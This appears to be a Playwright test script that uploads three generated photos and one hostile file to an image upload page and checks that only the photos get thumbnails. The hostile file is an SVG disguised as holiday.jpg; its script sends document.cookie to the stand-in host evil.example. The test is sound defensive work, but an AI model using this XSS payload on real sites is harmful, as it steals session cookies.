// `npm run test:page`: the upload page in a real browser. Starts `npm start`
// with the API served, opens its page in Debian's headless Chromium
// (playwright-core, CHROMIUM_PATH or /usr/bin/chromium, a fresh profile),
// picks three good photos and one hostile file, uploads them, and asserts what
// a person sees: three images with thumbnails that loaded, and one failure
// reason in words. Prints what the page showed; exits 1 when it was wrong.
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Option } from "commander";
import { chromium } from "playwright-core";
import sharp from "sharp";
import { wholeNumberAbove0 } from "../../cli/arguments";
import { cliProgram, EXIT_FAILED, EXIT_OK, exitWith, runCli } from "../../cli/exit-codes";
import { REPO_ROOT } from "../../cli/repo-root";

const FLAGS = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];
let TIMEOUT_MS = 120_000;

async function photos(dir: string): Promise<{ good: string[]; hostile: string }> {
  const gradient = (w: number, h: number, r: number) =>
    sharp({ create: { width: w, height: h, channels: 3, background: { r, g: 120, b: 255 - r } } }).composite([
      { input: Buffer.from(`<svg width="${w}" height="${h}"><circle cx="${w / 2}" cy="${h / 2}" r="${h / 3}" fill="orange"/></svg>`) },
    ]);
  const good = [join(dir, "beach.jpg"), join(dir, "forest.png"), join(dir, "city.webp")];
  await gradient(1200, 800, 30).jpeg().toFile(good[0]);
  await gradient(900, 900, 90).png().toFile(good[1]);
  await gradient(640, 1000, 200).webp().toFile(good[2]);
  // A script dressed as a photo: the browser calls it image/jpeg by its name; the bytes are SVG.
  const hostile = join(dir, "holiday.jpg");
  writeFileSync(
    hostile,
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("//evil.example/"+document.cookie)</script></svg>',
  );
  return { good, hostile };
}

function startPipeline(): Promise<{ child: ChildProcess; url: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      process.execPath,
      [join(REPO_ROOT, "node_modules", "tsx", "dist", "cli.mjs"), join(REPO_ROOT, "local", "start.ts"), "--no-samples", "--no-canary", "--keep-serving"],
      {
        cwd: REPO_ROOT,
        stdio: ["ignore", "ignore", "pipe"],
      },
    );
    let seen = "";
    const timer = setTimeout(() => reject(new Error(`npm start printed no page URL in time:\n${seen}`)), TIMEOUT_MS);
    child.stderr?.on("data", (chunk: Buffer) => {
      seen += chunk.toString();
      const match = /API and upload page: (http:\/\/127\.0\.0\.1:\d+)\//.exec(seen);
      if (match) {
        clearTimeout(timer);
        resolve({ child, url: match[1] });
      }
    });
    child.once("exit", (code) => reject(new Error(`npm start exited (${code}) before serving:\n${seen}`)));
  });
}

/** Four images, each ok, failed or refused, and every thumbnail image done loading. */
const ALL_SETTLED = `(() => {
  const items = [...document.querySelectorAll("li.image")];
  const done = items.filter((li) => ["ok", "failed", "refused"].includes(li.dataset.status || ""));
  const loaded = [...document.querySelectorAll("li.image img")].every((img) => img.complete);
  return items.length === 4 && done.length === 4 && loaded;
})()`;

/** What a person sees per image: its name, badge, reason text (when visible) and the thumbnails as rendered. */
const WHAT_IS_SHOWN = `[...document.querySelectorAll("li.image")].map((li) => ({
  name: li.querySelector(".name").textContent,
  status: li.dataset.status || "",
  badge: li.querySelector(".status").textContent,
  reason: li.querySelector(".reason").hidden ? "" : li.querySelector(".reason").textContent,
  thumbnails: [...li.querySelectorAll("img")].map((img) => ({ width: img.naturalWidth, loaded: img.complete && img.naturalWidth > 0 })),
}))`;

interface Shown {
  name: string;
  status: string;
  badge: string;
  reason: string;
  thumbnails: { width: number; loaded: boolean }[];
}

async function pageTest(chromiumPath: string): Promise<number> {
  const dir = mkdtempSync(join(tmpdir(), "page-test-"));
  const profile = mkdtempSync(join(tmpdir(), "page-test-profile-"));
  let child: ChildProcess | undefined;
  try {
    const files = await photos(dir);
    const started = await startPipeline();
    child = started.child;
    const context = await chromium.launchPersistentContext(profile, { executablePath: chromiumPath, headless: true, args: FLAGS });
    try {
      const page = context.pages()[0] ?? (await context.newPage());
      await page.goto(`${started.url}/`);
      await page.setInputFiles("#files", [...files.good, files.hostile]);
      await page.click("#upload");
      // Browser-side code as strings: this project compiles without the DOM types.
      await page.waitForFunction(ALL_SETTLED, undefined, { timeout: TIMEOUT_MS, polling: 250 });
      const shown = (await page.evaluate(WHAT_IS_SHOWN)) as Shown[];
      for (const item of shown) {
        const thumbs = item.thumbnails.map((t) => `${t.width}px${t.loaded ? "" : " (not loaded)"}`).join(", ");
        process.stdout.write(`${item.name}: ${item.badge}${item.reason ? ` - "${item.reason}"` : ""}${thumbs ? ` - thumbnails ${thumbs}` : ""}\n`);
      }
      const problems: string[] = [];
      const byName = new Map(shown.map((s) => [s.name, s]));
      for (const path of files.good) {
        const name = path.split("/").pop() as string;
        const item = byName.get(name);
        if (item?.status !== "ok") problems.push(`${name}: expected "thumbnails ready", saw ${item?.badge ?? "nothing"}`);
        else if (item.thumbnails.length === 0 || !item.thumbnails.every((t) => t.loaded)) problems.push(`${name}: thumbnails did not all load`);
      }
      const hostile = byName.get("holiday.jpg");
      if (hostile?.status !== "failed") problems.push(`holiday.jpg: expected "failed", saw ${hostile?.badge ?? "nothing"}`);
      else if (!/not an image we can read/.test(hostile.reason)) problems.push(`holiday.jpg: expected the reason in words, saw "${hostile.reason}"`);
      else if (hostile.thumbnails.length > 0) problems.push("holiday.jpg: shows thumbnails");
      if (problems.length > 0) {
        process.stderr.write(`page test FAILED:\n  ${problems.join("\n  ")}\n`);
        return EXIT_FAILED;
      }
      process.stdout.write("page test passed: 3 images with thumbnails, 1 failure reason in words\n");
      return EXIT_OK;
    } finally {
      await context.close();
    }
  } finally {
    child?.kill("SIGINT");
    rmSync(dir, { recursive: true, force: true });
    rmSync(profile, { recursive: true, force: true });
  }
}

const program = cliProgram(
  "npm run test:page --",
  "Drive the upload page of npm start in headless Chromium: three photos and one hostile file, checked as a person sees them",
)
  .addOption(new Option("--chromium <path>", "the Chromium (or Chrome) binary").default(process.env.CHROMIUM_PATH ?? "/usr/bin/chromium"))
  .addOption(new Option("--timeout <seconds>", "how long to wait for npm start and for every image to settle").argParser(wholeNumberAbove0).default(120))
  .action(async (opts: { chromium: string; timeout: number }) => {
    TIMEOUT_MS = opts.timeout * 1000;
    try {
      process.exitCode = await pageTest(opts.chromium);
    } catch (error) {
      process.stderr.write(`page test: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
      process.exitCode = EXIT_FAILED;
    }
  });

void runCli(program).then(exitWith);
